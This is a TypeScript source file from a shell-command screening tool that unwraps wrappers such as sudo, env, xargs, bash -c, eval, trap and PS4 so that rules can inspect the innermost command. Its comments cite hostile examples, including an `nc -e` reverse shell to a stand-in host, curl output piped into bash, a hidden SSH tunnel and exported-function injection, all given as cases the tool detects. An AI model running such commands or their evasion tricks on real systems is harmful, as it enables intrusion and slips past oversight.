// Why: turns one simple command into CommandRecords, unwrapping one layer at a time: argv
// wrappers (env, nohup, setsid, timeout, sudo, nice, stdbuf, exec, xargs, find -exec …), shells
// with a script (`bash -c STR`, `sh -s` fed by a pipe or heredoc, `bash FILE` written earlier in
// the same call, `bash <(…)`), `eval`, `source`, and interpreters with inline code. Threat it
// stops: a hostile command judged by its outermost wrapper. Each hop is recorded, so rules can
// match the wrapper (sudo) and what it runs (nc -e), and a finding shows the whole chain.
import { posix } from 'node:path';
import type { SNode } from './parser.js';
import type { Ctx } from './run.js';
import { descriptorFrom, fdOfPath, isStdinPath } from './redirects.js';
import { shellQuote } from '../../util/shell-join.js';
import { sourcesOf } from './var-flow.js';
import { basename, interpreterOf, own, scriptOperand, SHELL_STRING_OPTS, SHELLS, skipOptions, stdinScript, WRAPPERS, wrappedCommand } from './programs.js';
import { nameGuesses } from './name-guess.js';
import { downloadTargets, fileOperands, normPath } from './stage.js';
import { runInline } from './exec-inline.js';
import { optionCommands } from './exec-options.js';
import { ipLiterals } from './ips.js';
import { mapSpan, type AnalysisLimits, type CommandRecord, type Layer, type SpanMap } from './types.js';

export interface RunState {
  readonly commands: CommandRecord[];
  readonly unwrapped: string[];
  readonly downloaded: Set<string>;
  readonly chmodded: Set<string>;
  readonly aliases: Map<string, string>;
  readonly functions: Map<string, string>;
  readonly limits: AnalysisLimits;
  /** Layers parsed whole so far (see Run.parsedLayers). */
  readonly parsedLayers: number;
  addCommand(rec: CommandRecord): void;
  full(): boolean;
  note(key: string, msg: string): void;
  readFile(p: string): Buffer | null;
  analyzeLayer(text: string, layer: Layer, base?: Partial<Ctx>): Buffer | null;
  expandAgain(value: string, ctx: Ctx, label: string): void;
  visitSubst(n: SNode, ctx: Ctx): { out: Buffer | null; names: string[] };
}

export interface EmitInput {
  argv: string[];
  exact: boolean[];
  /** Word node of each argv element, in ctx.layer.text. */
  nodes: SNode[];
  /** End of the whole statement (with redirections) in ctx.layer.text. */
  end: number;
  ctx: Ctx;
  stdin: Buffer | null;
  inputFrom: string[];
  redirects: string[];
  flags: string[];
  via?: string[];
  depth?: number;
  /** Where the first record's text starts when it is not the name (prefix assignments `A=1 cmd`). */
  start?: number;
}

/** Where an unwrapping step is: the current argv slice and its chain. */
export interface Step { argv: string[]; exact: boolean[]; nodes: SNode[]; via: string[]; depth: number; rec: CommandRecord; inp: EmitInput }

const MAX_HOPS = 16;

/** Emits records for a simple command and everything it wraps. Returns the innermost argv. */
export function emitCommand(run: RunState, inp: EmitInput): string[] {
  let { argv, exact, nodes } = inp;
  // What a name bash would expand runs as (`/usr/bin/[n]c`, `/proc/self/exe`), and what else it may be (name-guess.ts)
  if (argv[0] !== undefined && !(inp.flags ?? []).includes('name_guess')) {
    const g = nameGuesses(argv[0], exact[0] ?? false);
    if (g.name !== undefined) argv = [g.name, ...argv.slice(1)];
    for (const other of g.others) emitCommand(run, { ...inp, argv: [other, ...argv.slice(1)], exact: [true, ...exact.slice(1)], flags: [...(inp.flags ?? []), 'name_guess'] });
  }
  const via = [...(inp.via ?? inp.ctx.layer.via)];
  let depth = inp.depth ?? inp.ctx.layer.depth;
  let eff = argv;
  if (argv.length === 0) { record(run, inp, argv, exact, nodes, via, depth); return eff; }
  for (let hop = 0; hop < MAX_HOPS && argv.length > 0 && !run.full(); hop++) {
    const rec = record(run, inp, argv, exact, nodes, via, depth);
    eff = argv;
    const name = basename(argv[0]!);
    const st: Step = { argv, exact, nodes, via, depth, rec, inp };
    bookkeeping(run, rec, name);
    // ssh -o ProxyCommand=…, git -c core.sshCommand=…, rsync -e …, env GIT_SSH_COMMAND=…: run as shell.
    for (const oc of optionCommands(name, argv)) {
      run.analyzeLayer(oc.text, subLayer(st, oc.text, oc.idx, oc.idx + 1, oc.label), inherit(st, { stdin: null, inputFrom: [] }));
    }
    if (name === 'cd' || name === 'pushd' || name === 'popd') { changeDir(inp.ctx.vars, name, argv, exact); break; }
    if (name === 'alias') { for (const a of argv.slice(1)) { const m = /^([^=\s]+)=(.*)$/s.exec(a); if (m) run.aliases.set(m[1]!, m[2]!); } break; }
    const alias = hop === 0 && !argv[0]!.includes('/') ? run.aliases.get(argv[0]!) : undefined;
    if (alias !== undefined && via.filter((v) => v === 'alias').length < 8) { // (an alias of an alias: `alias a=nc b=a`, session 45)
      const text = [alias, ...argv.slice(1)].join(' ');
      run.analyzeLayer(text, subLayer(st, text, 0, argv.length, 'alias'), inherit(st));
      break;
    }
    // a shell function's call: its body, with the call's arguments where "$@", "$1" … stand (a review, session 36:
    // `f(){ ssh "$@"; }; f -NR 9000:localhost:22 u@h` hid the tunnel); a function calling functions, 4 deep at most
    const fn = hop === 0 && !argv[0]!.includes('/') ? run.functions.get(argv[0]!) : undefined;
    if (fn !== undefined && via.filter((v) => v === 'function').length < 4) {
      const text = withArguments(fn, argv.slice(1));
      // (a function runs in the current shell: what it assigns stays assigned, `f(){ x=nc; }; f; $x …`)
      run.analyzeLayer(text, subLayer(st, text, 0, argv.length, 'function'), inherit(st, { vars: inp.ctx.vars }));
      break;
    }
    const ss = own(SHELL_STRING_OPTS, name);
    const cIdx = ss ? argv.findIndex((a, i) => i > 0 && ss.opt.includes(a)) : -1;
    if (ss && cIdx > 0 && cIdx + 1 < argv.length) { layerFromArgs(run, st, cIdx + 1, cIdx + 2, `${name} -c`); break; }
    if (name === 'env') {
      const sIdx = argv.findIndex((a) => a === '-S' || a === '--split-string');
      if (sIdx > 0 && sIdx + 1 < argv.length) { layerFromArgs(run, st, sIdx + 1, argv.length, 'env -S'); break; }
    }
    if (name === 'watch') {
      const { at } = skipOptions(argv, 1, WRAPPERS.watch!);
      if (at < argv.length) layerFromArgs(run, st, at, argv.length, 'watch');
      break;
    }
    if (name === 'xargs') { if (xargs(run, st)) break; }
    if (name === 'screen' || name === 'tmux' || name === 'dtach' || name === 'byobu') { detached(run, st, name); break; }
    // Tools whose command sits after their own syntax (a red team's round, session 45)
    const hopTo = wrappedCommand(name, argv);
    if (hopTo !== undefined) {
      if (typeof hopTo === 'string') { const i = argv.indexOf(hopTo, 1); layerFromArgs(run, st, i, i + 1, name); break; }
      if (hopTo.from >= argv.length) break;
      rec.files = [];
      if (hop + 1 < MAX_HOPS && !run.full()) rec.flags.push('wrapper');
      const head = hopTo.program === undefined ? [] : [hopTo.program];
      argv = [...head, ...argv.slice(hopTo.from)]; exact = [...head.map(() => true), ...exact.slice(hopTo.from)]; nodes = [...head.map(() => nodes[hopTo.from - 1]!), ...nodes.slice(hopTo.from)];
      via.push(hopTo.label ?? name); depth++;
      continue;
    }
    const spec = own(WRAPPERS, name);
    if (spec) {
      const { at, noExec } = skipOptions(argv, 1, spec, name === 'env' || name === 'sudo' || name === 'doas');
      const k = at + (spec.skip ?? 0);
      // GNU parallel with no command runs each line of its input as a command, as a shell would
      if (!noExec && k >= argv.length && name === 'parallel' && argv.length === at) emitCommand(run, { ...st.inp, argv: ['sh'], exact: [true], nodes: [nodes[0]!], via: [...via, name], depth: depth + 1 });
      if (noExec || k >= argv.length) break;
      // `env x=nc bash -c '$x -e …'`: env's assignments are the environment of what it runs, as prefix assignments are;
      // `env 'BASH_FUNC_true%%=() { …; }' bash -c true`: an exported function, which the bash it starts defines
      if (name === 'env') {
        inp = withEnvAssignments(inp, argv.slice(1, at), exact.slice(1, at));
        for (const a of argv.slice(1, at)) {
          const f = /^BASH_FUNC_([^=%]+)%%=\s*\(\)\s*(\{[\s\S]*)$/.exec(a);
          if (f && run.functions.size < 64) run.functions.set(f[1]!, f[2]!);
        }
      }
      rec.files = [];
      // the wrapped command is recorded next (unless the hop or record limit stops here)
      if (hop + 1 < MAX_HOPS && !run.full()) rec.flags.push('wrapper');
      argv = argv.slice(k); exact = exact.slice(k); nodes = nodes.slice(k);
      via.push(name); depth++;
      continue;
    }
    if (name === 'find') { findExec(run, st); break; }
    if (SHELLS.has(name)) { shell(run, st, name); break; }
    if (name === 'eval' || name === 'let') { const k = argv[1] === '--' ? 2 : 1; if (argv.length > k) layerFromArgs(run, st, k, argv.length, name, name === 'eval'); break; }
    // `set -x` (or `-o xtrace`): this shell now expands PS4 before each command it runs (session 46)
    if (name === 'set' && argv.some((a, i) => /^-[a-zA-Z]*x/.test(a) || (a === '-o' && argv[i + 1] === 'xtrace'))) { expandPs(run, st, 'PS4', 'set -x PS4'); break; }
    // Builtins that keep a string to run later: `trap 'CMD' EXIT`, `mapfile -C 'CMD'`, `compgen -C 'CMD'` (session 45).
    if (name === 'trap') { const k = argv[1] === '--' ? 2 : 1; if (argv.length > k + 1 && !argv[k]!.startsWith('-')) layerFromArgs(run, st, k, k + 1, name); break; }
    if (name === 'mapfile' || name === 'readarray' || name === 'compgen' || name === 'complete') {
      // -C CMD (also glued: -C'CMD'); compgen's -W WORDS is expanded, so a `$(…)` in it runs
      for (let i = 1; i < argv.length; i++) {
        const opt = argv[i]!.slice(0, 2);
        if (opt !== '-C' && !(opt === '-W' && name !== 'mapfile' && name !== 'readarray')) continue;
        if (argv[i]!.length > 2) { const text = `${opt === '-W' ? ': ' : ''}${argv[i]!.slice(2)}`; run.analyzeLayer(text, subLayer(st, text, i, i + 1, `${name} ${opt}`), inherit(st)); continue; }
        if (i + 1 >= argv.length) break;
        if (opt === '-C') layerFromArgs(run, st, i + 1, i + 2, `${name} -C`);
        else { const text = `: ${argv[i + 1]!}`; run.analyzeLayer(text, subLayer(st, text, i + 1, i + 2, `${name} -W`), inherit(st)); }
        i++;
      }
      break;
    }
    if (name === 'source' || name === '.') { script(run, st, 1, name); break; }
    const interp = interpreterOf(name);
    if (interp) { runInline(run, st, interp); break; }
    if (argv[0]!.includes('/') && run.readFile(argv[0]!)) { script(run, st, 0, argv[0]!); break; }
    break;
  }
  return eff;
}

function record(run: RunState, inp: EmitInput, argv: string[], exact: boolean[], nodes: SNode[], via: string[], depth: number): CommandRecord {
  const L = inp.ctx.layer;
  const first = nodes[0]?.start ?? inp.start ?? 0;
  const start = nodes === inp.nodes && inp.start !== undefined ? Math.min(inp.start, first) : first;
  const end = Math.max(inp.end, nodes.at(-1)?.end ?? 0);
  const text = L.text.slice(start, end);
  const flags = [...inp.ctx.flags, ...inp.flags];
  if (inp.ctx.inLoop) flags.push('in_loop');
  if (inp.ctx.background) flags.push('background');
  if (exact[0] === false) flags.push('dynamic_name');
  if (exact.some((e) => !e)) flags.push('dynamic_args');
  if (depth > 0) flags.push('unwrapped');
  const cwd = inp.ctx.vars.get(CWD_VAR);
  const rel = argv[0] !== undefined && !argv[0].startsWith('/') && argv[0].includes('/') ? argv[0] : undefined;
  const script = argv[0] !== undefined ? scriptOperand(basename(argv[0]), argv) ?? stdinScript(basename(argv[0]), argv, inp.redirects) : undefined;
  const rec: CommandRecord = {
    argv, text, depth, via: via.join(' > '), span: mapSpan(L.map, start, end), chain: L.chain.at(-1) === text ? L.chain : [...L.chain, text],
    redirects: inp.redirects, input_from: inp.inputFrom, files: fileOperands(argv), ips: ipLiterals(argv.slice(1)), flags,
    ...(cwd !== undefined ? { cwd } : {}), ...(cwd !== undefined && rel !== undefined ? { program: posix.join(cwd, rel) } : {}),
    ...(script !== undefined ? { script: cwd !== undefined && !script.startsWith('/') ? posix.join(cwd, script) : script } : {}),
  };
  run.addCommand(rec);
  return rec;
}

/**
 * Where `cd DIR` (`pushd`, `popd`) leaves the shell, kept in the context's variables under names no shell variable
 * can have, so a subshell's `cd` stays inside it and a `bash -c` layer starts where its parent was: a literal
 * absolute DIR, or a relative one under a known directory; `cd -` and `cd ~-` go back to the one before (OLDPWD),
 * `pushd`/`popd` keep their stack. Anything else (`cd`, `cd ~`, `cd "$D"`) makes it unknown. Threat:
 * `cd /tmp/.x && ./kworker` ran a hidden payload that a rule on its path never saw (it read `./kworker`); with the
 * directory known, the record's `program` is /tmp/.x/kworker and its `script` /tmp/.x/p.py for `python3 -u p.py`.
 */
export const CWD_VAR = '\0cwd';
const OLD_VAR = '\0oldpwd';
const STACK_VAR = '\0dirs';
function changeDir(vars: Map<string, string>, name: string, argv: string[], exact: boolean[]): void {
  const cur = vars.get(CWD_VAR);
  const set = (to: string | undefined): void => {
    if (cur !== undefined) vars.set(OLD_VAR, cur); else vars.delete(OLD_VAR);
    if (to !== undefined) vars.set(CWD_VAR, to); else vars.delete(CWD_VAR);
  };
  const stack = vars.get(STACK_VAR)?.split('\0') ?? [];
  if (name === 'popd') {
    // (the directory pushd left, if it was known when pushed: '' marks an unknown one)
    const top = stack.pop();
    if (stack.length) vars.set(STACK_VAR, stack.join('\0')); else vars.delete(STACK_VAR);
    set(top ? top : undefined);
    return;
  }
  let i = 1;
  while (i < argv.length && /^-[LPe@]+$/.test(argv[i]!)) i++;
  if (argv[i] === '--') i++;
  const to = argv[i];
  let next: string | undefined;
  if (to === '-' || to === '~-') next = vars.get(OLD_VAR);
  else if (to === undefined || !exact[i] || to.startsWith('~') || to.startsWith('+') || to === '') next = undefined;
  else if (to.startsWith('/')) next = posix.normalize(to);
  else next = cur !== undefined ? posix.join(cur, to) : undefined;
  if (name === 'pushd') vars.set(STACK_VAR, [...stack, cur ?? ''].join('\0'));
  set(next);
}

const CHMOD_X = /^(?:[ugoa]*\+[rwxXst]*x[rwxXst]*|[0-7]*[1357][0-7]?[0-7]?)$/;

function bookkeeping(run: RunState, rec: CommandRecord, name: string): void {
  const argv = rec.argv;
  for (const t of downloadTargets(argv)) run.downloaded.add(normPath(t));
  if (name === 'chmod' && argv.slice(1).some((a) => CHMOD_X.test(a) && /x|[1357]/.test(a))) {
    for (const a of argv.slice(1)) if (!a.startsWith('-') && !CHMOD_X.test(a) && !/^[ugoa]*[+-=]/.test(a)) run.chmodded.add(normPath(a));
  }
  const runs = SHELLS.has(name) || interpreterOf(name) || name === 'source' || name === '.' ? rec.files[0] : argv[0];
  if (runs === undefined) return;
  const p = normPath(runs);
  const candidate = runs.includes('/') || runs !== argv[0];
  if (candidate && (run.downloaded.has(p) || run.downloaded.has(basename(p)))) rec.flags.push('exec_downloaded');
  if (candidate && run.chmodded.has(p)) rec.flags.push('exec_chmodded');
}

/** Offset in the layer where `value` appears verbatim inside node `n`, or -1. */
function verbatimAt(n: SNode, layerText: string, value: string): number {
  const t = layerText.slice(n.start, n.end);
  if (n.type === 'raw_string' || n.type === 'string') return t.slice(1, -1) === value ? n.start + 1 : -1;
  if (n.type === 'word') return t === value ? n.start : -1;
  return -1;
}

/** A function body with a call's arguments put where "$@", "$*", "$1" … "$9" (quoted or not, braced or not) stand, each quoted. */
export function withArguments(body: string, args: readonly string[]): string {
  const q = (a: string): string => `'${a.replace(/'/g, `'\\''`)}'`;
  const all = args.map(q).join(' ');
  return body.replace(/"\$\{?([1-9@*])\}?"|\$\{?([1-9@*])\}?/g, (_m, a?: string, b?: string) => {
    const k = (a ?? b)!;
    return k === '@' || k === '*' ? all : q(args[Number(k) - 1] ?? '');
  });
}

/** A new text layer made of argv[from..to) (joined by spaces, like eval). */
export function subLayer(st: Step, text: string, from: number, to: number, label: string): Layer {
  const L = st.inp.ctx.layer;
  const first = st.nodes[from];
  const last = st.nodes[to - 1];
  let map: SpanMap;
  const at = first && to - from === 1 && L.map.exact ? verbatimAt(first, L.text, text) : -1;
  if (at >= 0 && L.map.exact) map = { exact: true, base: L.map.base + at };
  else if (first && last) { const [s] = mapSpan(L.map, first.start, first.end); const [, e] = mapSpan(L.map, last.start, last.end); map = { exact: false, start: s, end: e }; }
  else map = { exact: false, start: st.rec.span[0], end: st.rec.span[1] };
  return { text, depth: st.depth + 1, via: [...st.via, label], chain: [...L.chain, text], map };
}

/** inp with `NAME=VALUE` words (env's, given literally) added to its variables, for the command env runs and the shells it starts. */
function withEnvAssignments(inp: EmitInput, words: string[], exact: boolean[]): EmitInput {
  let vars: Map<string, string> | undefined;
  words.forEach((w, i) => {
    const m = exact[i] ? /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s.exec(w) : null;
    if (m) (vars ??= new Map(inp.ctx.vars)).set(m[1]!, m[2]!);
  });
  return vars ? { ...inp, ctx: { ...inp.ctx, vars } } : inp;
}

/** Context a nested layer inherits: loop/background state and where its input comes from. */
export function inherit(st: Step, extra: Partial<Ctx> = {}): Partial<Ctx> {
  const c = st.inp.ctx;
  return { vars: new Map(c.vars), inLoop: c.inLoop, background: c.background, flags: c.flags, stdin: st.inp.stdin, inputFrom: st.inp.inputFrom, ...extra };
}

/** `sameShell`: the text runs in the current shell (eval), so what it assigns stays assigned after it. */
function layerFromArgs(run: RunState, st: Step, from: number, to: number, label: string, sameShell = false): void {
  const text = st.argv.slice(from, to).join(' ');
  if (text.trim() === '') return;
  if (st.exact.slice(from, to).some((e) => !e)) st.rec.flags.push('code_from_input');
  // Every argument after the command's name is now screened as its own layer: content rules leave
  // the wrapper itself alone (`bash -c 'grep -rn 169.254.169.254 docs/'` is a grep).
  const parsed = run.parsedLayers;
  run.analyzeLayer(text, subLayer(st, text, from, to, label), inherit(st, sameShell ? { vars: st.inp.ctx.vars } : {}));
  if (to === st.argv.length && run.parsedLayers > parsed) st.rec.flags.push('wrapper');
}

/** A layer whose text did not come from one argument (stdin payload, file content). */
function layerFromData(run: RunState, st: Step, text: string, label: string, fromStdin = false): void {
  const L = st.inp.ctx.layer;
  const from = st.inp.ctx.pipeStart;
  const start = from === undefined ? st.rec.span[0] : Math.min(st.rec.span[0], mapSpan(L.map, from, from)[0]);
  const layer: Layer = { text, depth: st.depth + 1, via: [...st.via, label], chain: [...L.chain, text], map: { exact: false, start, end: st.rec.span[1] } };
  if (/^#!.*\b(python|perl|ruby|node|php)/.test(text)) {
    const lang = /\b(python|perl|ruby|node|php)/.exec(text)![1]!;
    runInline(run, { ...st, argv: [lang], exact: [true], nodes: [] }, interpreterOf(lang)!, text);
    return;
  }
  // A script read from stdin has consumed that stdin: its commands do not read the pipe again.
  run.analyzeLayer(text, layer, inherit(st, fromStdin ? { stdin: null, inputFrom: [] } : { stdin: null }));
}

function script(run: RunState, st: Step, idx: number, label: string): void {
  const node = st.nodes[idx];
  const path = st.argv[idx];
  if (path === undefined) return;
  // `source /dev/stdin <<< CMD`, `curl … | bash /dev/stdin`: the script is the input (session 45).
  if (isStdinPath(path)) {
    if (st.inp.inputFrom.length || st.inp.stdin) st.rec.flags.push('code_from_input');
    if (st.inp.stdin) layerFromData(run, st, st.inp.stdin.toString('utf8'), `${label} ${path}`, true);
    return;
  }
  // `source /dev/fd/3` after `exec 3< <(curl …)`: the script is what feeds that descriptor (session 46)
  const fd = fdOfPath(path);
  if (fd !== undefined) {
    const from = descriptorFrom(st.inp.ctx.vars, fd);
    if (from.length) { st.rec.flags.push('code_from_input'); st.rec.input_from = [...new Set([...st.rec.input_from, ...from])]; }
    return;
  }
  let content = run.readFile(path);
  if (node && node.type === 'process_substitution') {
    st.rec.flags.push('code_from_input');
    if (!content) content = run.visitSubst(node, st.inp.ctx).out;
  }
  if (content) layerFromData(run, st, content.toString('utf8'), `${label} ${path}`);
}

function shell(run: RunState, st: Step, name: string): void {
  const a = st.argv;
  let i = 1;
  let sawC = false;
  let sawS = false;
  let traced = false;
  let interactive = false;
  let noExec = false;
  const rcfiles: string[] = [];
  while (i < a.length) {
    const x = a[i]!;
    if (x === '--' || x === '-') { i++; break; }
    if (x === '--rcfile' || x === '--init-file') { if (i + 1 < a.length) rcfiles.push(a[i + 1]!); i += 2; continue; }
    if (/^[-+]O$|^[-+]o$/.test(x)) { if (x === '-o' && a[i + 1] === 'xtrace') traced = true; i += 2; continue; }
    if (x.startsWith('--')) { i++; continue; }
    if (/^[-+][a-zA-Z]+$/.test(x)) {
      // (a `-` group turns its letters on; a `+` group turns them off, which is the default)
      if (x[0] === '-') {
        if (x.includes('n') && !sawC && !x.includes('c')) noExec = true;
        sawC ||= x.includes('c'); sawS ||= x.includes('s'); traced ||= x.includes('x'); interactive ||= x.includes('i');
      }
      i++; continue;
    }
    break;
  }
  // `bash -n` reads its script for syntax and runs none of it (`curl … | tee install.sh | bash -n`: a red team's false
  // positive, session 46); with -c the option string is still parsed, so `bash -nc` is left as it was
  if (noExec && !sawC && !interactive) { st.rec.files = []; return; }
  startupCode(run, st, name, rcfiles, traced, interactive);
  st.rec.files = sawC || sawS || i >= a.length ? [] : [a[i]!];
  if (sawC) { if (i < a.length) layerFromArgs(run, st, i, i + 1, `${name} -c`); return; }
  if (!sawS && i < a.length) { script(run, st, i, name); return; }
  if (st.inp.inputFrom.length || st.inp.stdin) st.rec.flags.push('code_from_input');
  if (st.inp.stdin) layerFromData(run, st, st.inp.stdin.toString('utf8'), `${name} <stdin`, true);
}

/**
 * What a shell runs before its command (session 46): the file in BASH_ENV (bash) or ENV (sh, dash, ksh, posh), and the
 * --rcfile/--init-file it is given, each as `source FILE`; under -x, PS4, which it expands before every traced command
 * (`PS4='$(nc -e sh h 1)' bash -xc true`). Values come from the shell's environment as the analyser knows it (prefix
 * and env assignments, earlier exports).
 */
function startupCode(run: RunState, st: Step, name: string, rcfiles: string[], traced: boolean, interactive: boolean): void {
  const vars = st.inp.ctx.vars;
  const envName = name === 'bash' || name === 'rbash' ? 'BASH_ENV' : 'ENV';
  const env = vars.get(envName);
  // (a value from a download, `BASH_ENV=<(curl …)`: the file is that download, read as the shell's start-up script)
  const fetched = env === undefined ? sourcesOf(vars, envName) : [];
  const files = [...(env ? [env] : fetched.length ? ['/dev/stdin'] : []), ...rcfiles];
  for (const file of files) {
    const text = `source ${shellQuote(file)}`;
    // (`/dev/stdin` is the shell's own input: `curl … | BASH_ENV=/dev/stdin bash -c true`)
    const own = isStdinPath(file);
    const input = fetched.length && file === '/dev/stdin' ? { stdin: null, inputFrom: fetched } : own ? { stdin: st.inp.stdin, inputFrom: st.inp.inputFrom } : { stdin: null, inputFrom: [] };
    run.analyzeLayer(text, subLayer(st, text, 0, 1, `${name} start-up file`), inherit(st, input));
  }
  if (traced || /(^|:)xtrace(:|$)/.test(vars.get('SHELLOPTS') ?? '')) expandPs(run, st, 'PS4', `${name} PS4`);
  if (!interactive) return;
  // an interactive shell runs PROMPT_COMMAND and expands its prompts before reading each command
  const pc = vars.get('PROMPT_COMMAND');
  if (pc) run.analyzeLayer(pc, subLayer(st, pc, 0, 1, `${name} PROMPT_COMMAND`), inherit(st, { stdin: null, inputFrom: [] }));
  for (const ps of ['PS0', 'PS1', 'PS2']) expandPs(run, st, ps, `${name} ${ps}`);
}

/** A prompt variable the shell expands again, when its value could run something (`$(…)`, backticks). */
function expandPs(run: RunState, st: Step, ps: string, label: string): void {
  const v = st.inp.ctx.vars.get(ps);
  if (v && /[$`]/.test(v)) run.expandAgain(v, st.inp.ctx, label);
}

function findExec(run: RunState, st: Step): void {
  const a = st.argv;
  // `{}` stands for each file found: show it under the search root so path rules still apply.
  const root = a.slice(1).find((x) => !x.startsWith('-') && x !== '(' && x !== '!') ?? '.';
  const sub = (x: string): string => (x.includes('{}') ? x.split('{}').join(`${root.replace(/\/+$/, '')}/{}`) : x);
  for (let i = 1; i < a.length; i++) {
    if (!/^-(exec|execdir|ok|okdir)$/.test(a[i]!)) continue;
    let j = i + 1;
    while (j < a.length && a[j] !== ';' && a[j] !== '+') j++;
    if (j > i + 1) {
      emitCommand(run, { ...st.inp, argv: a.slice(i + 1, j).map(sub), exact: st.exact.slice(i + 1, j), nodes: st.nodes.slice(i + 1, j), end: st.nodes[j - 1]!.end, via: [...st.via, `find ${a[i]}`], depth: st.depth + 1 });
    }
    i = j;
  }
}

/** xargs: the wrapped command gets stdin items as extra arguments (`echo CMD | xargs -0 sh -c`). */
function xargs(run: RunState, st: Step): boolean {
  const spec = WRAPPERS.xargs!;
  const { at } = skipOptions(st.argv, 1, spec);
  if (at >= st.argv.length) return true;
  st.rec.files = [];
  const opts = st.argv.slice(1, at);
  const replace = opts.find((o) => /^(-I|-i|--replace)/.test(o));
  let items: string[] = [];
  if (st.inp.stdin) {
    const data = st.inp.stdin.toString('utf8');
    items = (opts.some((o) => o === '-0' || o === '--null') ? data.split('\0') : replace ? data.split('\n') : data.split(/\s+/)).filter((x) => x !== '').slice(0, 64);
    if (opts.some((o) => o === '-0' || o === '--null')) items = items.map((x) => x.replace(/\n$/, ''));
  }
  let argv = st.argv.slice(at);
  let exact = st.exact.slice(at);
  let nodes = st.nodes.slice(at);
  const token = replace === undefined ? undefined : replace.length > 2 && !replace.startsWith('--') ? replace.slice(2) : '{}';
  // Input not known here (`wget -qO- URL | xargs -I% bash -c %`): an argument that is the replace string is whatever
  // the input says, so a shell's -c string there is code from input (session 45). Spliced into a larger string
  // (`sh -c 'git clone {}'`) it is data in that string.
  if (token !== undefined && !items.length) exact = exact.map((e, k) => e && argv[k] !== token);
  // `curl … | xargs -0 sh -c`: the first item becomes the -c string, so a shell ending in -c runs its input.
  if (token === undefined && !items.length && SHELLS.has(basename(argv[0] ?? '')) && /^-[a-zA-Z]*c[a-zA-Z]*$/.test(argv.at(-1) ?? '')) {
    argv = [...argv, '$XARGS_ITEM']; exact = [...exact, false]; nodes = [...nodes, nodes[nodes.length - 1]!];
  }
  if (items.length) {
    const last = nodes[nodes.length - 1]!;
    if (token !== undefined) {
      argv = argv.map((a) => (a.includes(token) ? a.split(token).join(items[0]!) : a));
    } else {
      argv = [...argv, ...items]; exact = [...exact, ...items.map(() => true)]; nodes = [...nodes, ...items.map(() => last)];
    }
  }
  emitCommand(run, { ...st.inp, argv, exact, nodes, via: [...st.via, 'xargs'], depth: st.depth + 1 });
  return true;
}

/** screen -dmS name CMD… / tmux new -d "CMD": a detached session running a command. */
function detached(run: RunState, st: Step, name: string): void {
  const a = st.argv;
  if (name === 'screen') {
    const { at } = skipOptions(a, 1, { short: 'SpcTetLlhX', long: [] });
    if (at < a.length) emitCommand(run, { ...st.inp, argv: a.slice(at), exact: st.exact.slice(at), nodes: st.nodes.slice(at), via: [...st.via, 'screen'], depth: st.depth + 1 });
    return;
  }
  const sub = a.findIndex((x, i) => i > 0 && /^(new|new-session|new-window|neww|split-window|splitw|send-keys|send|run-shell|run)$/.test(x));
  if (sub < 0) return;
  const { at } = skipOptions(a, sub + 1, { short: 'sncteFxylt', long: [] });
  if (at < a.length) layerFromArgs(run, st, at, a.length, `${name} ${a[sub]}`);
}
